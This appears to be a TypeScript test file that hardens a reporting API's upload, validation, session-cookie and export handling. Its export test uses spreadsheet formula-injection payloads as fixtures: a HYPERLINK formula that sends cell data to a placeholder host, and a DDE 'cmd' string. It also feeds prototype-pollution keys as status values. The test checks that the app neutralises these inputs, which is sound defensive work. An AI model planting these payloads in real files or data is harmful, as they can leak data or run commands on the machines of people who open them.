import { request } from 'node:http';
import type { AddressInfo } from 'node:net';
import { gzipSync } from 'node:zlib';
import ExcelJS from 'exceljs';
import { type Database, countValues, createLogger, initStore, systemCtx } from '@baocao/core';
import { createTestDatabase } from '@baocao/core/testing';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { buildApp } from './app.ts';
import type { App } from './route.ts';

let db: Database;
let app: App;
const TOKEN = 'hardening-token-0123456789';
const auth = { authorization: `Bearer ${TOKEN}` };

beforeAll(async () => {
  db = await createTestDatabase();
  await initStore(systemCtx(db));
  app = await buildApp({
    db,
    log: createLogger({ level: 'silent' }),
    apiToken: TOKEN,
    webRoot: null,
    trustProxy: true,
  });
  await app.listen({ port: 0, host: '127.0.0.1' });
});
afterAll(async () => {
  await app.close();
  await db.close();
});

/** Sends only the headers of a large upload and waits for the answer (never sending the body). */
function headersOnly(
  path: string,
  headers: Record<string, string>,
): Promise<{ status: number; body: string; ms: number }> {
  const { port } = app.server.address() as AddressInfo;
  const t = Date.now();
  return new Promise((resolve, reject) => {
    const req = request({ host: '127.0.0.1', port, path, method: 'POST', headers }, (res) => {
      let body = '';
      res.on('data', (c: Buffer) => (body += c.toString()));
      res.on('end', () => {
        req.destroy();
        resolve({ status: res.statusCode ?? 0, body, ms: Date.now() - t });
      });
    });
    req.on('error', reject);
    req.setTimeout(10_000, () => reject(new Error('no answer before the body was sent')));
    req.flushHeaders();
  });
}

describe('bodies are refused before they are read', () => {
  it('an anonymous 150 MB upload gets 401 without being read', async () => {
    const r = await headersOnly('/api/imports?filename=big.csv', {
      'content-type': 'application/octet-stream',
      'content-length': String(150 * 1024 * 1024),
    });
    expect(r.status).toBe(401);
    expect(JSON.parse(r.body)).toMatchObject({ code: 'UNAUTHENTICATED' });
  });
  it('a body over the route’s limit gets 413 in our shape without being read', async () => {
    const r = await headersOnly('/api/imports?filename=big.csv', {
      ...auth,
      'content-type': 'application/octet-stream',
      'content-length': String(150 * 1024 * 1024),
    });
    expect(r.status).toBe(413);
    expect(JSON.parse(r.body)).toMatchObject({
      code: 'BODY_TOO_LARGE',
      message: expect.stringContaining('vượt giới hạn'),
    });
  });
});

describe('bad input answers 4xx in our shape, bounded, and writes nothing', () => {
  it('a corrupt gzip feed is 400 INVALID_GZIP', async () => {
    const good = gzipSync(Buffer.from('ip,seen_at,source\n203.0.113.9,2024-08-02,cert\n'));
    const before = await countValues(systemCtx(db));
    const r = await app.inject({
      method: 'POST',
      url: '/api/feeds/botnet?filename=hong.csv.gz',
      headers: { ...auth, 'content-type': 'application/octet-stream' },
      payload: good.subarray(0, good.length - 12),
    });
    expect(r.statusCode).toBe(400);
    expect(r.json()).toMatchObject({ code: 'INVALID_GZIP' });
    expect(await countValues(systemCtx(db))).toEqual(before);
  });

  it('a million numbers answer with a thousand listed errors and the count', async () => {
    const body = `{"values":[${Array.from({ length: 1_000_000 }, () => '1').join(',')}]}`;
    const r = await app.inject({
      method: 'POST',
      url: '/api/values',
      headers: { ...auth, 'content-type': 'application/json' },
      payload: body,
    });
    expect(r.statusCode).toBe(400);
    const j = r.json();
    expect(j.code).toBe('INVALID_REQUEST');
    expect(j.details).toHaveLength(1000);
    expect(j.detailsTotal).toBe(1_000_000);
    expect(r.body.length).toBeLessThan(400_000);
  }, 180_000);

  it.each(['123456789012345678901234567890', '1e-400', '1e400'])(
    'the JSON number %s is refused, not rounded',
    async (lit) => {
      const r = await app.inject({
        method: 'POST',
        url: '/api/values',
        headers: { ...auth, 'content-type': 'application/json' },
        payload: `{"values":[{"indicator":"VT.DOANH_THU","unit":"P01","period":"2024M01","value":${lit}}]}`,
      });
      expect(r.statusCode).toBe(400);
      expect(r.json()).toMatchObject({ code: 'UNSAFE_NUMBER' });
    },
  );

  it('malformed JSON is 400 INVALID_JSON', async () => {
    const r = await app.inject({
      method: 'POST',
      url: '/api/values',
      headers: { ...auth, 'content-type': 'application/json' },
      payload: '{"values": [',
    });
    expect(r.statusCode).toBe(400);
    expect(r.json()).toMatchObject({ code: 'INVALID_JSON' });
  });
});

describe('exports never carry a formula into a spreadsheet', () => {
  const NOTES = ['=HYPERLINK("http://x/?"&A2,"x")', "+cmd|' /C calc'!A0", '@SUM(1+1)', '-2+3', '\tTAB'];
  it('neutralises cells that start a formula in CSV and XLSX, numbers unchanged, and reads them back as stored', async () => {
    const values = NOTES.map((note, i) => ({
      indicator: 'VT.DOANH_THU',
      unit: ['P01', 'P04', 'P08', 'P11', 'P12'][i]!,
      period: '2025M08',
      value: 1200 + i,
      note,
    }));
    const stored = await app.inject({
      method: 'POST',
      url: '/api/values',
      headers: auth,
      payload: { values },
    });
    expect(stored.json()).toMatchObject({ inserted: 5 });
    const csv = await app.inject({
      method: 'GET',
      url: '/api/exports?indicators=VT.DOANH_THU&period=2025M08&format=csv',
      headers: auth,
    });
    const lines = csv.body.split('\r\n');
    expect(csv.body).toContain(`"'=HYPERLINK(""http://x/?""&A2,""x"")"`);
    expect(csv.body).toContain(`'+cmd|' /C calc'!A0`);
    expect(csv.body).toContain(`'@SUM(1+1)`);
    expect(csv.body).toContain(`'-2+3`);
    expect(lines.some((l) => l.includes(',1200,'))).toBe(true);
    for (const l of lines.slice(1)) expect(l).not.toMatch(/(^|,)"?[=+@\t]/);

    const xlsx = await app.inject({
      method: 'GET',
      url: '/api/exports?indicators=VT.DOANH_THU&period=2025M08&format=xlsx',
      headers: auth,
    });
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(new Uint8Array(xlsx.rawPayload).buffer);
    const texts: string[] = [];
    wb.worksheets[0]!.eachRow((row, r) => {
      if (r > 1) row.eachCell((c) => typeof c.value === 'string' && texts.push(c.value));
    });
    expect(texts.filter((t) => /^[=+\-@\t]/.test(t))).toEqual([]);
    expect(texts).toContain(`'=HYPERLINK("http://x/?"&A2,"x")`);

    // The exported workbook imports back to exactly the stored notes.
    const again = await app.inject({
      method: 'POST',
      url: '/api/imports?filename=lai.xlsx',
      headers: { ...auth, 'content-type': 'application/octet-stream' },
      payload: xlsx.rawPayload,
    });
    expect(again.json()).toMatchObject({ rows: 5, inserted: 0, updated: 0, unchanged: 5 });
  });
});

describe('the session cookie', () => {
  it('is Secure when the request came over TLS through the trusted proxy, with a Max-Age', async () => {
    const { createDemoUsers } = await import('@baocao/core');
    await createDemoUsers(systemCtx(db), 'mat-khau-thu-nghiem');
    const signIn = (headers: Record<string, string>) =>
      app.inject({
        method: 'POST',
        url: '/api/auth/login',
        headers,
        payload: { username: 'leader', password: 'mat-khau-thu-nghiem' },
      });
    const tls = (await signIn({ 'x-forwarded-proto': 'https', 'x-forwarded-for': '198.51.100.20' }))
      .cookies[0]!;
    expect(tls).toMatchObject({
      name: 'baocao_session',
      secure: true,
      httpOnly: true,
      sameSite: 'Strict',
      maxAge: 12 * 3600,
    });
    const plain = (await signIn({})).cookies[0]!;
    expect(plain.secure).toBeUndefined();
  });
});

describe('status words are read from an own-property map', () => {
  it.each(['__proto__', 'constructor', 'toString', 'hasOwnProperty'])(
    'a status of "%s" is 400 on /api/values and in a CSV import, nothing written',
    async (word) => {
      // Values and their audit: the background compaction may fold earlier rollup changes meanwhile.
      const count = async () => {
        const { values, audit } = await countValues(systemCtx(db));
        return { values, audit };
      };
      const before = await count();
      const api = await app.inject({
        method: 'POST',
        url: '/api/values',
        headers: { ...auth, 'content-type': 'application/json' },
        payload: JSON.stringify({
          values: [{ indicator: 'VT.DOANH_THU', unit: 'P01', period: '2025M07', value: 5, status: word }],
        }),
      });
      expect(api.statusCode, api.body).toBe(400);
      expect(api.json()).toMatchObject({ code: 'VALIDATION_FAILED' });
      expect(api.body).toContain('INVALID_STATUS');
      const csv = await app.inject({
        method: 'POST',
        url: '/api/imports?filename=trang-thai.csv',
        headers: { ...auth, 'content-type': 'application/octet-stream' },
        payload: `indicator,unit,period,value,status\nVT.DOANH_THU,P01,2025M07,5,${word}\n`,
      });
      expect(csv.statusCode, csv.body).toBe(400);
      expect(csv.body).toContain('INVALID_STATUS');
      expect(await count()).toEqual(before);
    },
  );
});
